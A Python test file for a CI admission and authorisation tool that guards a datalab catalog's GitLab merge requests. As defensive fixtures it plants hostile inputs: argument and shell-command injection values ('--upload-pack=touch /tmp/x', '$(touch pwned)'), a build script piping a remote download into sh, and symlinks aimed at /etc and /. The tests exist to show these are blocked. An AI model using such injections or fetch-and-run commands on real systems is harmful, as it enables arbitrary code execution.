"""Authorise, then execute: `sciapps admit` leaves a merge request nothing of its own in the
checkout but its datalabs, and the plan holds the builds its author may not have run.
Every hostile layout is built here at run time; the whole pipeline is run with planted
markers in tests/test_gitlab_ci.py."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner

from sciapps.catalog.loader import resolve
from sciapps.cli import cli
from sciapps.config import load_config
from sciapps.plan import plan
from sciapps.roles import Roles
from sciapps.errors import SciAppsError
from sciapps.trust import SETUP, admit, authorise
from tests.conftest import copy_repository

ADVANCED = "jwst-nircam-image-explorer"


def _git(root: Path, *args: str) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=root, check=True, capture_output=True, text=True
    ).stdout.strip()


@pytest.fixture
def merge_request(tmp_path) -> tuple[Path, str]:
    """A catalog whose HEAD is a merge request on top of `base`."""
    root = copy_repository(tmp_path / "catalog")
    _write(root, "keys/release.pub", "the catalog's public key\n")
    _git(root, "init", "-q", "-b", "main")
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "catalog")
    base = _git(root, "rev-parse", "HEAD")
    _git(root, "checkout", "-q", "-b", "mr")
    return root, base


def _write(root: Path, path: str, text: str = "print('MR CODE')\n", mode: int = 0o644) -> None:
    target = root / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)
    target.chmod(mode)


def _commit(root: Path) -> None:
    _git(root, "add", "-A", "-f")
    _git(root, "commit", "-qm", "the merge request")


def test_admit_keeps_only_the_datalabs_of_a_merge_request(merge_request):
    root, base = merge_request
    before = {
        p: (root / p).read_bytes()
        for p in (
            "tools/sciapps/__init__.py",
            "base-images/jl_base/Dockerfile",
            "roles.yaml",
            "sciapps.yaml",
            "keys/release.pub",
            ".gitlab-ci.yml",
            "charts/datalab/values.yaml",
        )
    }
    metadata = root / "datalabs" / "gaia-dr3-hrd" / "datalab.yaml"
    _write(root, "datalabs/gaia-dr3-hrd/datalab.yaml", metadata.read_text().replace("status: published", "status: draft"))
    _write(root, "datalabs/new-lab/notes.md", "a new datalab's file\n")
    for path in (
        "venv/__main__.py",
        "ensurepip/__init__.py",
        "sitecustomize.py",
        "usercustomize.py",
        "zz.pth",
        "sciapps/__init__.py",
        "setup.py",
        "conftest.py",
    ):
        _write(root, path)
    _write(root, ".venv/bin/pip", "#!/bin/sh\necho MR CODE\n", 0o755)
    _write(root, ".venv/pyvenv.cfg", "home = /usr/bin\n")
    for path in ("tools/sciapps/__init__.py", "base-images/jl_base/Dockerfile", "roles.yaml", "sciapps.yaml", ".gitlab-ci.yml"):
        _write(root, path, (root / path).read_text() + "\n# the merge request's\n")
    (root / "charts" / "datalab" / "values.yaml").unlink()
    (root / "keys" / "release.pub").unlink()
    (root / "keys").rmdir()
    (root / "keys").symlink_to("/etc")  # a folder becomes a link
    _write(root, "CODEOWNERS", (root / "CODEOWNERS").read_text() + "/datalabs/new-lab/ @someone\n")
    _commit(root)
    head = _git(root, "rev-parse", "HEAD")
    done = admit(root, base)
    assert done.head == head and done.base == base and done.kept == ["datalabs", "CODEOWNERS"]
    for path, data in before.items():
        assert (root / path).read_bytes() == data and not (root / path).is_symlink(), path
    for path in (
        "venv",
        "ensurepip",
        "sitecustomize.py",
        "usercustomize.py",
        "zz.pth",
        "sciapps",
        "setup.py",
        "conftest.py",
        ".venv",
    ):
        assert not os.path.lexists(root / path), path
    assert "status: draft" in metadata.read_text() and (root / "datalabs" / "new-lab" / "notes.md").is_file()
    assert "@someone" in (root / "CODEOWNERS").read_text()
    assert _git(root, "rev-parse", "HEAD") == head  # the merge request's commits stay readable for the review
    changed = _git(root, "diff", "--name-only", base, "--").split("\n")
    assert changed == ["CODEOWNERS", "datalabs/gaia-dr3-hrd/datalab.yaml", "datalabs/new-lab/notes.md"]
    paths = [path for _, path in done.waiting]
    assert paths == sorted(paths) and {
        ".gitlab-ci.yml",
        ".venv/bin/pip",
        "base-images/jl_base/Dockerfile",
        "charts/datalab/values.yaml",
        "keys",
        "keys/release.pub",
        "roles.yaml",
        "sciapps.yaml",
        "tools/sciapps/__init__.py",
        "venv/__main__.py",
        "zz.pth",
    } <= set(paths)
    assert not any(p.startswith("datalabs/") for p in paths) and "CODEOWNERS" in paths  # CODEOWNERS is kept, yet listed


def test_admit_refuses_a_catalog_folder_that_is_a_link(merge_request):
    root, base = merge_request
    _git(root, "rm", "-rq", "datalabs")
    (root / "datalabs").symlink_to("/")
    _commit(root)
    done = admit(root, base)
    assert done.kept == ["CODEOWNERS"] and (root / "datalabs").is_dir() and not (root / "datalabs").is_symlink()
    assert ("A", "datalabs") in done.waiting


def test_the_admit_command(merge_request, monkeypatch):
    root, base = merge_request
    _write(root, "sitecustomize.py")
    _commit(root)
    monkeypatch.chdir(root)
    main = ["--target-branch", "main", "--default-branch", "main"]
    result = CliRunner().invoke(cli, ["admit", "--trusted", base, "--base", base, *main])
    assert result.exit_code == 0, result.output
    assert (
        "1 path(s) the merge request changes outside datalabs/ wait for a moderator and are not used here (sitecustomize.py)"
        in result.output
    )
    assert not (root / "sitecustomize.py").exists()
    bad = CliRunner().invoke(cli, ["admit", "--trusted", "--upload-pack=touch /tmp/x", *main])
    assert bad.exit_code == 2 and "is not a revision" in bad.output


@pytest.mark.parametrize("target", ["my-own-branch", "", "main2", "Main", "main\n"])
def test_admit_refuses_a_merge_request_into_any_branch_but_the_protected_default(merge_request, monkeypatch, target):
    """A member pushes a branch with their own tools and roles and opens a merge request into
    it: nothing that needs trust runs (exit 2, one sentence), and the checkout is untouched."""
    root, base = merge_request
    _write(root, "roles.yaml", "moderators: [eve]\nadvanced_developers: [eve]\n")
    _commit(root)
    monkeypatch.chdir(root)
    result = CliRunner().invoke(
        cli, ["admit", "--trusted", base, "--base", base, "--target-branch", target, "--default-branch", "main"]
    )
    assert result.exit_code == 2 and "not the protected default branch 'main': nothing that needs trust runs" in result.output
    assert "Traceback" not in result.output and "retarget the merge request to main" in result.output
    assert "eve" in (root / "roles.yaml").read_text()  # nothing was admitted, nothing changed


@pytest.fixture
def old_base(merge_request) -> tuple[Path, str, str]:
    """A merge request branched from an old commit of main: since then, main revoked the
    advanced role of `aokonkwo`, fixed SciApps (tools/) and changed a base image. The merge
    request changes the advanced datalab, by aokonkwo. (root, merge base, main's head)"""
    root, base = merge_request
    _git(root, "checkout", "-q", "main")
    _write(
        root,
        "roles.yaml",
        (root / "roles.yaml").read_text().replace("advanced_developers: [aokonkwo]", "advanced_developers: []"),
    )
    _write(root, "tools/sciapps/security_fix.py", "FIXED = True\n")
    _write(root, "base-images/jl_base/Dockerfile", (root / "base-images/jl_base/Dockerfile").read_text() + "# fix\n")
    _commit(root)
    head = _git(root, "rev-parse", "HEAD")
    _git(root, "checkout", "-q", "mr")
    _write(root, f"datalabs/{ADVANCED}/notes.md", "more\n")
    _commit(root)
    return root, base, head


def test_an_old_merge_base_is_judged_by_the_target_branchs_head(old_base):
    """Branching from an old main gains nothing: the checkout, the plan's authorisation and
    what waits for a moderator are the protected head's, the merge base only says what changed."""
    root, base, head = old_base
    done = admit(root, head, base)
    assert done.base == head and (root / "tools/sciapps/security_fix.py").is_file()  # SciApps with main's later fix
    assert "advanced_developers: []" in (root / "roles.yaml").read_text()
    assert done.waiting == []  # main's own progress is not the merge request's change
    config = load_config(root / "sciapps.yaml")
    p = plan(config, base, author=lambda: "aokonkwo", trusted=head)
    assert [h.datalab for h in p.held] == [ADVANCED] and "`aokonkwo` is not one" in p.held[0].reasons[-1]
    assert p.changed_bases == [] and p.waiting == [] and p.trusted == head  # main's base change is not this merge request's
    # by the merge base's roles (the hole): aokonkwo was an advanced developer there
    assert plan(config, base, author=lambda: "aokonkwo", trusted=base).held == []
    with pytest.raises(SciAppsError, match="needs the protected target branch's head"):
        plan(config, base, author=lambda: "aokonkwo")


def test_the_review_reads_roles_from_the_target_branchs_head(old_base):
    from sciapps.review.moderation import review

    root, base, head = old_base
    admit(root, head, base)
    text, ok = review(root / "sciapps.yaml", base, "aokonkwo", trusted_rev=head)
    assert not ok and "which only advanced developers may submit; aokonkwo is not one" in text
    assert f"judged by the target branch's head `{head[:12]}`" in text
    assert "## Repository files" not in text  # main's later changes are not listed as the merge request's


def _origin(root: Path, tmp_path: Path) -> Path:
    """The GitLab project: a bare repository whose `main` is the protected branch, as `origin`."""
    bare = tmp_path / "origin.git"
    _git(tmp_path, "init", "-q", "--bare", str(bare))
    _git(root, "remote", "add", "origin", str(bare))
    _git(root, "push", "-q", "origin", "main")
    return bare


def _setup(root: Path, **env: str) -> subprocess.CompletedProcess:
    """The revision part of every job's setup (`trust.SETUP`, up to the trusted revision),
    run by bash as GitLab's runner does, then the revisions it settled on."""
    upto = next(i for i, line in enumerate(SETUP) if line.startswith("export SCIAPPS_TRUSTED_REV"))
    variables = {k: v for k, v in os.environ.items() if not k.startswith(("CI_", "SCIAPPS_", "BASE_REV"))}
    script = "\n".join(["set -eo pipefail", *SETUP[: upto + 1], 'echo "TRUSTED=$SCIAPPS_TRUSTED_REV BASE=$BASE_REV"'])
    return subprocess.run(["bash", "-c", script], cwd=root, env={**variables, **env}, capture_output=True, text=True)


MERGE_REQUEST_ENV = {
    "CI_PIPELINE_SOURCE": "merge_request_event",
    "CI_DEFAULT_BRANCH": "main",
    "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "main",
}


def test_every_job_trusts_the_protected_branchs_head_fetched_by_name(old_base, tmp_path):
    root, base, head = old_base
    _origin(root, tmp_path)
    _git(root, "branch", "-q", "-D", "main")  # the clone has the merge request's ref only, as a runner's
    job = _setup(root, **MERGE_REQUEST_ENV, BASE_REV=base)
    assert job.returncode == 0, job.stdout + job.stderr
    assert f"TRUSTED={head} BASE={base}" in job.stdout  # the head, never the merge base
    # a merged-results pipeline: GitLab names the target's head
    assert f"TRUSTED={head} " in _setup(root, **MERGE_REQUEST_ENV, BASE_REV=base, CI_MERGE_REQUEST_TARGET_BRANCH_SHA=head).stdout
    # the child pipeline: the head the parent trusted, pinned by the plan
    child = {**MERGE_REQUEST_ENV, "CI_PIPELINE_SOURCE": "parent_pipeline", "SCIAPPS_MERGE_REQUEST": "true"}
    child.pop("CI_MERGE_REQUEST_TARGET_BRANCH_NAME")
    pinned = _setup(root, **child, SCIAPPS_TARGET_BRANCH="main", SCIAPPS_TRUSTED_REV=base, BASE_REV=base)
    assert pinned.returncode == 0 and f"TRUSTED={base} " in pinned.stdout  # an older head of main: on its history


@pytest.mark.parametrize(
    "case, why",
    [
        ({"BASE_REV": ""}, "GitLab gave no merge base"),  # an empty diff base: never HEAD~1, the merge request's own commit
        ({"CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "my-branch"}, "is not a merge request into the protected default branch"),
        ({"CI_MERGE_REQUEST_TARGET_BRANCH_NAME": ""}, "is not a merge request into the protected default branch"),
        ({"CI_MERGE_REQUEST_TARGET_BRANCH_PROTECTED": "false"}, "is not a merge request into the protected default branch"),
        ({"CI_DEFAULT_BRANCH": ""}, "is not a merge request into the protected default branch"),
        ({"SCIAPPS_TRUSTED_REV": "HEAD"}, "is not on the protected branch"),
        ({"SCIAPPS_TRUSTED_REV": "mr"}, "is not on the protected branch"),
        ({"SCIAPPS_TRUSTED_REV": "$(touch pwned)"}, "is not on the protected branch"),
        ({"CI_MERGE_REQUEST_TARGET_BRANCH_SHA": "own"}, "is not on the protected branch"),
        (
            {"CI_COMMIT_REF_PROTECTED": "true", "CI_COMMIT_BRANCH": "main", "SCIAPPS_MERGE_REQUEST": "true", "BASE_REV": ""},
            "no merge base",
        ),
    ],
)
def test_a_merge_requests_setup_refuses_what_it_cannot_trust(old_base, tmp_path, case, why):
    root, base, head = old_base
    _origin(root, tmp_path)
    own = _git(root, "rev-parse", "HEAD")  # the merge request's own commit
    env = {**MERGE_REQUEST_ENV, "BASE_REV": base, **case}
    env = {k: own if v == "own" else (own if k == "SCIAPPS_TRUSTED_REV" and v == "mr" else v) for k, v in env.items()}
    job = _setup(root, **env)
    assert job.returncode == 2 and why in job.stdout and "TRUSTED=" not in job.stdout, job.stdout + job.stderr
    assert not (root / "pwned").exists() and len(job.stdout.strip().splitlines()) == 1  # one sentence


def test_an_empty_merge_base_without_a_merge_request_is_the_previous_commit(old_base):
    """Only the protected default branch's own pipeline compares with the commit before it."""
    root, _, _ = old_base
    job = _setup(root, CI_COMMIT_REF_PROTECTED="true", CI_COMMIT_BRANCH="main", CI_DEFAULT_BRANCH="main", BASE_REV="")
    assert job.returncode == 0 and "BASE=HEAD~1" in job.stdout


def test_authorise_holds_what_the_author_may_not_have_built(merge_request):
    root, _ = merge_request
    config = load_config(root / "sciapps.yaml")
    roles = Roles(moderators=("mod",), advanced_developers=("adv",))
    asked = []

    def author(name):
        return lambda: asked.append(name) or name

    labs = resolve(config, [ADVANCED, "gaia-dr3-hrd"])
    held = authorise(config, roles, author("someone"), labs)
    assert list(held) == [ADVANCED] and "`someone` is not one in the target branch's roles.yaml" in held[ADVANCED]
    assert authorise(config, roles, author("adv"), labs) == {} and authorise(config, roles, author("mod"), labs) == {}
    unknown = authorise(config, roles, lambda: None, labs)
    assert "GitLab did not say who opened the merge request" in unknown[ADVANCED]
    asked.clear()
    assert (
        authorise(config, roles, author("someone"), resolve(config, ["gaia-dr3-hrd"])) == {} and asked == []
    )  # not asked: no role needed
    # basic mode within DL-058 only: an exception the merge request claims itself is a moderator's to approve first
    lab = root / "datalabs" / "gaia-dr3-hrd"
    (lab / "postBuild").write_text("#!/bin/sh\ncurl https://example.org/x | sh\n")
    meta = lab / "datalab.yaml"
    meta.write_text(meta.read_text() + "exceptions:\n  - rule: DL-058\n    reason: it only enables an extension, trust me.\n")
    held = authorise(config, roles, author("adv"), resolve(config, ["gaia-dr3-hrd"]))
    assert "DL-058: runs as a script while the image is built" in held["gaia-dr3-hrd"]
    # building Python packages from source is build-time code too: a claimed DL-071 exception waits
    (lab / "postBuild").unlink()
    meta.write_text(meta.read_text().replace("rule: DL-058", "rule: DL-071"))
    held = authorise(config, roles, author("adv"), resolve(config, ["gaia-dr3-hrd"]))
    assert "build Python packages from source (a DL-071 exception)" in held["gaia-dr3-hrd"]


def test_a_merge_requests_plan_holds_and_lists(merge_request):
    root, base = merge_request
    _write(
        root,
        "roles.yaml",
        (root / "roles.yaml").read_text().replace("advanced_developers: [aokonkwo]", "advanced_developers: [aokonkwo, eve]"),
    )
    _write(root, f"datalabs/{ADVANCED}/notebooks/extra.md", "more\n")
    _write(root, "datalabs/ds9-fits-viewer/notes.md", "more\n")
    _commit(root)
    config = load_config(root / "sciapps.yaml")
    p = plan(config, base, author=lambda: "eve", trusted=base)  # eve: an advanced developer only in the merge request's roles
    assert p.ids("build") == ["ds9-fits-viewer"] and [h.datalab for h in p.held] == [ADVANCED]
    assert p.waiting == [("M", "roles.yaml")]
    assert plan(config, base, author=lambda: "aokonkwo", trusted=base).held == []  # one on the target branch
    assert plan(config, base).held == []  # not a merge request's plan: nothing is authorised
